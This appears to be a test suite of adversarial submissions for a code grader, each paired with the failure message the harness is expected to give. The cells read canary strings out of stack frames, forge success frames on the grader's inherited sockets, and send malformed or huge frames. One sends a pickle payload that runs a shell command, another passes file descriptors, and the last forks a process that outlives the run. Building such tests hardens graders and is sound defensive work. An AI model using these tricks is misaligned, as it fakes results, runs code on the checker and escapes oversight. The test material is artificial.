# Answers that speak to the grader's socket themselves.

# %% reads the tests' frames lost="drive Model last"
import gc, inspect, re


def attack(x):
    texts = [str(frame.frame.f_locals) for frame in inspect.stack()]
    texts += [o for o in gc.get_objects() if isinstance(o, (str, bytes, dict))]
    raise RuntimeError(" ".join(re.findall("canary_[0-9a-f]+|triples", str(texts)))[:200])


# %% forged answers ahead of the question lost="drive Model last" says="attack triples"
import json, socket, struct


def frame(message):
    text = json.dumps(message).encode()
    body = struct.pack("!Q", len(text)) + text
    return struct.pack("!Q", len(body)) + body


for number in range(3, 64):
    try:
        sock = socket.socket(fileno=number)
        for _ in range(3):
            sock.sendall(frame(["ran", None]) + frame(["ok", [0.0] * 4]))
        sock.detach()
    except OSError:
        pass


def attack(x):
    return x


# %% forged frames of every kind lost="drive Model last" says="sent|something else|ended"
import socket, struct

TEXTS = [
    b'["ran", 0]',
    b'["ok"]',
    b'["ok", {"array": "|O", "shape": [1]}]',
    b"[" * 100_000,
    b"1" * 9999,
    b'["back", -1, [], {}]',
    b'["back", 99, [], {"pairs": []}]',
    b'{"pairs": [[[], 1]]}',
    b'["error", null, null]',
    b'["ok", {"array": "<f8", "shape": [-1]}]',
    b"\xff\xfe",
    b"",
]


def attack(x):
    import os

    for number in range(3, 64):
        try:
            sock = socket.socket(fileno=number)
            for text in TEXTS:
                body = struct.pack("!Q", len(text)) + text
                sock.sendall(struct.pack("!Q", len(body)) + body)
        except OSError:
            pass
    os._exit(0)


# %% a frame that promises more than there is says="sent too much|ended|sent"
import os, socket


def attack(x):
    for number in range(3, 64):
        try:
            socket.socket(fileno=number).sendall(b"\xff" * 8)
        except OSError:
            pass
    os._exit(0)


# %% a frame of nothing but brackets says="something else|too much|ended"
import os, socket, struct


def attack(x):
    text = b'["ok",[' + b"[]," * (40 << 20) + b"1]]"
    for number in range(3, 64):
        try:
            sock = socket.socket(fileno=number)
            sock.sendall(struct.pack("!QQ", len(text) + 8, len(text)) + text)
        except OSError:
            pass
    os._exit(0)


# %% pickles on the wire says="something else|ended"
import os, pickle, socket, struct


class Run:
    def __reduce__(self):
        return os.system, (f"touch {HOME}/{MARK} {COURSE}/{MARK}",)


def attack(x):
    body = pickle.dumps(Run())
    for number in range(3, 64):
        try:
            socket.socket(fileno=number).sendall(struct.pack("!Q", len(body)) + body)
        except OSError:
            pass
    os._exit(0)


# %% descriptors on the wire says="something else|ended|NaN|triples"
import os, socket


def attack(x):
    for number in range(3, 64):
        try:
            socket.send_fds(socket.socket(fileno=number), [b"\0" * 8], [0] * 200)
        except OSError:
            pass
    os._exit(0)


# %% goes on at the side of another host says="ended|permitted"
import os, time


def attack(x):
    if os.fork():
        os._exit(0)
    time.sleep(1000)
